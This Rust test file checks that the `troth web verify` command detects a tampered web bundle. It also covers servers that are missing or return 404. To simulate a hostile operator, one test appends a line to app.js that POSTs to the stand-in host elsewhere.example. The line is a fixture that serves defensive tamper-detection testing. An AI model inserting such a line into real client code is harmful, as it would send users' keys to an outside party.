//! `troth web verify` against real servers: the real relay (whose bundle is
//! the one this `troth` carries: the same commit), a server whose `app.js`
//! was changed (as a hostile operator would, to post the key elsewhere), one
//! that serves nothing, and none at all. Each time one line per file on
//! standard output, and exit 0 only on a full match.

use std::net::TcpListener as StdListener;

use axum::Router;
use axum::http::header;
use axum::response::IntoResponse;
use axum::routing::get;
use troth_tests::cli::{FakeRelay, Person, Relay, assert_one_line, http_response};

/// A static server (not the relay) serving the embedded bundle, with
/// `/app.js` changed when `tamper` is set. Runs until the process ends.
fn static_server(tamper: bool) -> String {
    let listener = StdListener::bind("127.0.0.1:0").expect("bind");
    let addr = listener.local_addr().expect("addr");
    listener.set_nonblocking(true).expect("nonblocking");
    let mut app = Router::new();
    for asset in troth_web_assets::ASSETS {
        let mut body = asset.raw.to_vec();
        if tamper && asset.path == "/app.js" {
            body.extend_from_slice(
                b"\nfetch('https://elsewhere.example/k', { method: 'POST' });\n",
            );
        }
        let ct = asset.content_type;
        let handler = move || {
            let body = body.clone();
            async move { ([(header::CONTENT_TYPE, ct)], body).into_response() }
        };
        app = app.route(asset.path, get(handler.clone()));
        if asset.path == "/index.html" {
            app = app.route("/", get(handler));
        }
    }
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .expect("runtime");
        rt.block_on(async move {
            let listener = tokio::net::TcpListener::from_std(listener).expect("listener");
            axum::serve(listener, app).await.expect("serve");
        });
    });
    format!("http://{addr}")
}

#[test]
fn the_relay_serves_exactly_the_bundle_this_troth_carries() {
    let relay = Relay::start();
    let me = Person::new();
    let out = me.ok(&["web", "verify", &relay.url]);
    let lines: Vec<&str> = out.lines().collect();
    // `/` and every file, then the summary.
    assert_eq!(lines.len(), troth_web_assets::ASSETS.len() + 2, "{out}");
    for path in [
        "/",
        "/index.html",
        "/app.js",
        "/troth_wasm_bg.wasm",
        "/release.json",
    ] {
        assert!(
            lines.contains(&format!("same     {path}").as_str()),
            "{path}: {out}"
        );
    }
    assert!(
        out.contains(troth_web_assets::bundle_hash()),
        "the summary names the bundle: {out}"
    );
    let v = me.json(&["web", "verify", &relay.url]);
    assert_eq!(v["match"], true);
    assert_eq!(v["bundle"], troth_web_assets::bundle_hash());

    // The release this troth carries.
    let release = me.json(&["web", "release"]);
    assert_eq!(release["bundle"], troth_web_assets::bundle_hash());
    assert_eq!(
        release["assets"].as_array().map(Vec::len),
        Some(troth_web_assets::ASSETS.len() - 1)
    );
}

#[test]
fn a_changed_app_js_is_named_and_fails() {
    let me = Person::new();
    // The untouched copy on another origin matches…
    let same = static_server(false);
    me.ok(&["web", "verify", &same]);
    // …a copy with one line added to app.js does not.
    let url = static_server(true);
    let out = me.cmd(&["web", "verify", &url]).output().expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let err = assert_one_line(&out, 5);
    assert!(err.contains("1 of") && err.contains("/app.js"), "{err}");
    let differs: Vec<&str> = stdout
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differs.len(), 1, "{stdout}");
    assert!(differs[0].starts_with("DIFFERS  /app.js"), "{stdout}");
    assert_eq!(
        stdout.lines().filter(|l| l.starts_with("same")).count(),
        troth_web_assets::ASSETS.len(),
        "{stdout}"
    );
    let v: serde_json::Value = serde_json::from_slice(
        &me.cmd(&["--json", "web", "verify", &url])
            .output()
            .expect("run")
            .stdout,
    )
    .expect("json");
    assert_eq!(v["match"], false);
    let changed: Vec<&str> = v["files"]
        .as_array()
        .expect("files")
        .iter()
        .filter(|f| f["status"] != "same")
        .filter_map(|f| f["path"].as_str())
        .collect();
    assert_eq!(changed, ["/app.js"]);
}

#[test]
fn a_server_without_the_files_or_no_server_fails_in_one_line() {
    let me = Person::new();
    let empty = FakeRelay::start(0, http_response("404 Not Found", "text/plain", b"no"));
    let out = me
        .cmd(&["web", "verify", &empty.url])
        .output()
        .expect("run");
    let err = assert_one_line(&out, 5);
    assert!(err.contains("/app.js"), "{err}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("MISSING  /app.js  (the server answered 404)"),
        "{stdout}"
    );

    let port = empty.port();
    drop(empty);
    let out = me
        .cmd(&["web", "verify", &format!("http://127.0.0.1:{port}")])
        .output()
        .expect("run");
    let err = assert_one_line(&out, 4);
    assert!(err.contains("Could not reach"), "{err}");

    let out = me.cmd(&["web", "verify", "ftp://x"]).output().expect("run");
    assert_one_line(&out, 1);
}
